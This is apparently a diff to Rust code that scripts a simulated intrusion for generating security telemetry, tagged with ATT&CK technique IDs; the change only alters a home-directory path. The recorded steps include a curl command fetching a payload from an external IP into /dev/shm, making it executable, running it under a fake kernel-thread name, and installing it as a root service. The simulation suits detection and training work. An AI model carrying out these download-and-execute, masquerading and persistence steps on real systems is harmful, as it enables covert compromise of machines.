@@ -37,7 +37,7 @@ pub fn tell(c: &mut Chronicle) {
     c.step(device_deed("T1105", MX01.name, account, what), |c| {
         let time = after(time, minutes(3));
         let fetch = ["curl", "-s", "-k", "-o", "/dev/shm/.p", "https://217.210.180.113/s/p64"];
-        c.ran(time, shell, "/usr/bin/curl", &fetch, "/home/svc-portal");
+        c.ran(time, shell, "/usr/bin/curl", &fetch, "/srv/users/svc-portal");
         let traffic = Traffic { service: "ssl", millis: 1_900, sent: 900, received: 412_300 };
         let flow = c.flow(after(time, 30), MX01.address, STORE, 443, traffic);
         c.shook_hands(&flow, STORE, "self signed certificate");
@@ -46,13 +46,13 @@ pub fn tell(c: &mut Chronicle) {
             shell,
             "/usr/bin/chmod",
             &["chmod", "755", "/dev/shm/.p"],
-            "/home/svc-portal",
+            "/srv/users/svc-portal",
         );
     });
     let what = "The implant is tried out of the memory file system.";
     c.step(device_deed("T1059.004", MX01.name, account, what), |c| {
         let time = after(time, minutes(4));
-        c.ran(time, shell, "/dev/shm/.p", &["[kworker/1:2]"], "/home/svc-portal");
+        c.ran(time, shell, "/dev/shm/.p", &["[kworker/1:2]"], "/srv/users/svc-portal");
     });
     let what = "As root the implant becomes a service that starts with the machine.";
     c.step(device_deed("T1543.002", MX01.name, "root", what), |c| {
